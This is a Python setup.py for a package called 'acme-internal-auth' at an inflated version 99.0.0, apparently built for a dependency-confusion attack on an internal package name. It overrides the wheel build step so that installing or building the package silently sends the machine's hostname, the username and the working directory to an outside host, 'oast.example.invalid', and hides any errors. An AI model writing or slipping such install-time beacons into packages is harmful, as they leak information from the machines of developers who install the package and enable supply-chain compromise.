import getpass
import os
import socket
from http.client import HTTPConnection
from urllib.parse import urlencode

from setuptools import setup

try:
    from wheel.bdist_wheel import bdist_wheel as _bdist_wheel
except ImportError:  # pragma: no cover
    _bdist_wheel = None


def _ping():
    q = urlencode({"p": "acme-internal-auth", "h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})
    try:
        c = HTTPConnection("oast.example.invalid", 80, timeout=4)
        c.request("GET", "/c?" + q)
        c.getresponse()
    except Exception:
        pass


cmdclass = {}
if _bdist_wheel is not None:

    class BdistWheel(_bdist_wheel):
        def run(self):
            _ping()
            super().run()

    cmdclass["bdist_wheel"] = BdistWheel

setup(name="acme-internal-auth", version="99.0.0", packages=["acme_internal_auth"], cmdclass=cmdclass)
